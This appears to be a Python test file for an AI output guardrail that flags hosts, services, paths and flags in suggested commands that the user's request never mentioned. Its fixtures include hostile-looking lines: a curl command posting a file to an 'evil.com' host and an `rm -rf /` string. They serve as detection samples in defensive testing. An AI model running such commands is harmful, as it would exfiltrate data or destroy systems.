"""Names that nobody named: told by default, and stopped where policy says so, however the answer is cut."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.given import Given
from guardrails.guard import Guard
from guardrails.interface import Action, Channel
from guardrails.policy import Policy, default_policy

if TYPE_CHECKING:
    from collections.abc import Sequence

GUARD = Guard(default_policy())
STRICT = Guard(Policy.parse({"checks": {"invented": {"rules": {"invented.host": "escalate"}}}}))
REQUEST = "Disk full on db-7 (orders database), nginx and postgres are slow. /data is at 99 %. Try df -hT --sync?"


def found(answer: str, request: str = REQUEST, guard: Guard = GUARD) -> list[str]:
    verdict = guard.examine(answer, Channel.OUTPUT, given=Given(lambda: [request]))
    for finding in verdict.findings:
        assert finding.check == "invented"
        assert finding.rule in ("invented.host", "invented.service", "invented.path", "invented.flag")
    return [f"{finding.rule[9:]}:{answer[slice(*finding.span)]}" for finding in verdict.findings]


@pytest.mark.parametrize(
    "answer",
    [
        "Run `ssh db-7 systemctl status nginx`.",
        "```bash\ndf -hT --sync /data\ndu -xh --max-depth=1 /data/* | sort -h\n```",
        "`systemctl restart nginx.service` and `journalctl -u postgresql -n 50`",
        "`psql -h db-7.internal -d orders -c 'select 1'`",
        "$ tail -f /var/log/nginx/error.log\n",
        "`ls -l /etc/nginx/nginx.conf /var/lib/postgresql /tmp/whatever-1`",
        "Run `ping localhost`, `cat /etc/hosts`, `systemctl status sshd`.",
        "Use `ssh <host>` or `systemctl restart YOUR_SERVICE` or `systemctl restart my-service`.",
        "`du -sh FOLDER` and `kill NUMBER`",
        "The host web-9 is mentioned, and /srv/other too, but in no command.",
        "Never run `ssh web-9 reboot`.",
        "```python\nopen('/srv/other')\n```",
        '{"service": "nginx", "host": "db-7"}',
    ],
)
def test_what_was_named_is_not_invented(answer: str) -> None:
    """By the request, by everybody, or left for a person to fill in; and only commands are looked at."""
    assert found(answer) == []


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Run `ssh db-8 uptime`.", ["host:db-8"]),
        ("```bash\nsystemctl restart nginx\nsystemctl restart haproxy\n```", ["service:haproxy"]),
        ("$ du -sh /data/uploads\n", ["path:/data/uploads"]),
        ("`df -h --humanise`", ["flag:--humanise"]),
        ("`curl http://db-7.evil.com/x -d @/data/x`", ["host:http://db-7.evil.com/x", "path:@/data/x"]),
        ("`kubectl logs web-1 -n prod`", ["service:web-1", "service:prod"]),
        ("PS C:\\> Restart-Service -Name Spooler\n", ["service:Spooler"]),
        ('{"service": "haproxy", "path": "/data"}', ["service:haproxy"]),
        ('{"command": "ssh db-8 uptime"}', ["host:db-8"]),
        ('{"argv": ["ssh", "db-8", "uptime"]}', ["host:db-8"]),
        ("`ssh db-8 a` and again `ssh DB-8 b`", ["host:db-8"]),
        ("```\nssh db-8", ["host:db-8"]),
    ],
)
def test_what_nobody_named_is_told_where_it_stands(answer: str, expected: list[str]) -> None:
    """Each name once, and the answer goes on."""
    assert found(answer) == expected
    verdict = GUARD.examine(answer, Channel.OUTPUT, given=Given(lambda: [REQUEST]))
    assert verdict.action is Action.ALLOW
    assert "invented" in verdict.ran


def test_facts_and_runbooks_name_as_well() -> None:
    """The catalogue's own words are known to everybody who uses it."""
    assert found("`ssh db-8 uptime`", "facts: db-8") == []
    assert found("`redis-cli -h db-7 --bigkeys`") == []


def test_without_a_request_nothing_can_be_invented() -> None:
    """`guard check` is asked about a text alone."""
    verdict = GUARD.examine("`ssh db-8 uptime`", Channel.OUTPUT)
    assert not verdict.findings
    assert "invented" not in verdict.ran


def test_policy_turns_a_kind_into_a_hand_over() -> None:
    """What it says of hosts says nothing of services; the user reads that nobody mentioned it."""
    verdict = STRICT.examine("Run `ssh db-8 uptime`.", Channel.OUTPUT, given=Given(lambda: [REQUEST]))
    assert verdict.action is Action.ESCALATE
    assert "nobody mentioned" in STRICT.refusal(verdict)
    assert STRICT.examine("`systemctl stop-post x`", Channel.OUTPUT, given=Given(lambda: [REQUEST])).action is not None
    told = STRICT.examine("`systemctl status haproxy`", Channel.OUTPUT, given=Given(lambda: [REQUEST]))
    assert (told.action, len(told.findings)) == (Action.ALLOW, 1)


def fed(guard: Guard, pieces: Sequence[str]) -> tuple[list[int], list[tuple[str, tuple[int, int]]], Action]:
    stream = guard.stream(Given(lambda: [REQUEST]))
    offsets = [stream.feed(piece) for piece in pieces]
    offsets.append(stream.finish())
    verdict = stream.verdict()
    return offsets, [(finding.rule, finding.span) for finding in verdict.findings], verdict.action


ANSWERS = st.lists(
    st.sampled_from(
        [
            "Look at ",
            "`ssh db-8 id`",
            "`ssh db-7 id`",
            "\n",
            "```bash\n",
            "ssh db-8 df\n",
            "ssh db-7 \\\n",
            "```\n",
            "$ ",
            "ls\n",
            "{",
            '"host": "db-8"',
            "}",
            "# a",
            "ping -c1 db-9\n",
            "`rm -rf /`",
        ]
    ),
    max_size=12,
)


@given(ANSWERS, st.data())
@settings(max_examples=150, deadline=None)
def test_however_an_answer_is_cut_the_findings_are_the_same(parts: list[str], data: st.DataObject) -> None:
    """And where policy stops at a finding, nothing of it has left."""
    text = "".join(parts)
    pieces, rest = [], text
    while rest:
        size = data.draw(st.integers(1, len(rest)))
        pieces.append(rest[:size])
        rest = rest[size:]
    assert fed(GUARD, pieces)[1:] == fed(GUARD, [text])[1:]
    offsets, findings, action = fed(STRICT, pieces)
    assert (findings, action) == fed(STRICT, [text])[1:]
    stopping = [span for rule, span in findings if rule == "invented.host"]
    if stopping:
        assert action.stops
        assert offsets[-1] <= min(start for start, _ in stopping)
    elif action is Action.ALLOW:
        assert offsets[-1] == len(text)


@given(ANSWERS)
@settings(max_examples=60, deadline=None)
def test_a_finding_that_is_only_told_holds_nothing_back(parts: list[str]) -> None:
    """Text leaves when the other checks let it."""
    alone = GUARD.stream()
    together = GUARD.stream(Given(lambda: [REQUEST]))
    for part in parts:
        assert together.feed(part) == alone.feed(part)


def test_what_cannot_be_read_is_unchecked() -> None:
    """A line that goes on for ever is not said to be clean."""
    verdict = STRICT.examine("```bash\n" + "cat <<E\n" * 40_000, Channel.OUTPUT, given=Given(lambda: [REQUEST]))
    assert verdict.action.stops
